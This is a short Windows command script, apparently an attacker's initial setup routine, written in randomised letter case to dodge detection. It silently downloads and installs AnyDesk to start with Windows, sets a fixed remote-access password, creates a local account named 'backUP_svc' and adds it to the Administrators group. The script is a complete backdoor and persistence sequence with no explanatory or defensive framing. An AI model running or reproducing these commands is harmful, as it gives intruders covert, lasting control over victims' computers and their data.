# INit 7378 V3
InvoKE-WeBREQUest -URi 'https://download.anydesk.com/AnyDesk.exe' -OUTfile C:\pROGRAMdATA\anYDESk.eXE
CMd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
cmD /C "echo Sup3rS3cure! | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
neT user baCKUp_svc SUP3Rs3cuRe! /ADD
nET LocALgRoUp ADMiNIstRaToRs bAckUP_SVc /Add
